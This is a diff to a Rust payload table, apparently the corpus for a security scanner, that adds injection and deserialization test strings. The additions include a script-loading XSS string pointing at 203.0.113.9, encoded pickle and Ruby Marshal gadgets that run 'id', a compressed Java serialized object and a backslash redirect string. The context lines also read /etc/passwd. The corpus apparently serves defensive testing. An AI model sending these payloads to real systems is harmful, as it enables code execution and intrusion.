@@ -70,6 +70,7 @@ pub const FAMILIES: &[Family] = &[
             "<link rel=import href=//203.0.113.9/x.html>",
             "<style>@import url(//203.0.113.9/x.css)</style>",
             "'};location=name;{'",
+            "'-(s=document.createElement('script'),s.src='//203.0.113.9/x.js',document.head.append(s))-'",
         ],
     },
     Family {
@@ -265,6 +266,9 @@ pub const FAMILIES: &[Family] = &[
             "cos\nsystem\n(S'id'\ntR.",
             "AAEAAAD/////AQAAAAAAAAAMAgAAAF5NaWNyb3NvZnQuUG93ZXJTaGVsbC5FZGl0b3I=",
             "System.Windows.Data.ObjectDataProvider, PresentationFramework",
+            "Y29zCnN5c3RlbQooUydpZCcKdFIu",
+            "gASVKwAAAAAAAACMCnN1YnByb2Nlc3OUjAxjaGVja19vdXRwdXSUk5RdlIwCaWSUYYWUUpQu",
+            "BAhvOhVHZW06OlJlcXVpcmVtZW50BjoQQHJlcXVpcmVtZW50cw==",
         ],
     },
     Family {
@@ -283,6 +287,7 @@ pub const FAMILIES: &[Family] = &[
             "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
             "${file:UTF-8:/etc/passwd}",
             "jdbc:mysql://203.0.113.5:3306/t?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
+            "H4sIAAAAAAACA1vzloG1uIhBMCuxLFGvtCQzR88jsTjDN7GAlf3WwcNiCReZGZjcGLhy8hNT3BKTS/KLPBk4SzKKUosz8nNSKgrsHRhAgKecA0gKgJgVABrl5KNSAAAA",
         ],
     },
     // Redirect targets a check reads as this site's path or name and a
@@ -303,6 +308,7 @@ pub const FAMILIES: &[Family] = &[
             "//app.example.test@203.0.113.9/",
             "/\\/203.0.113.9/",
             "/\n/evil.example",
+            "\\\\evil.example",
         ],
     },
     // JSON Web Tokens forged to pass unsigned (`alg` none in any case), or
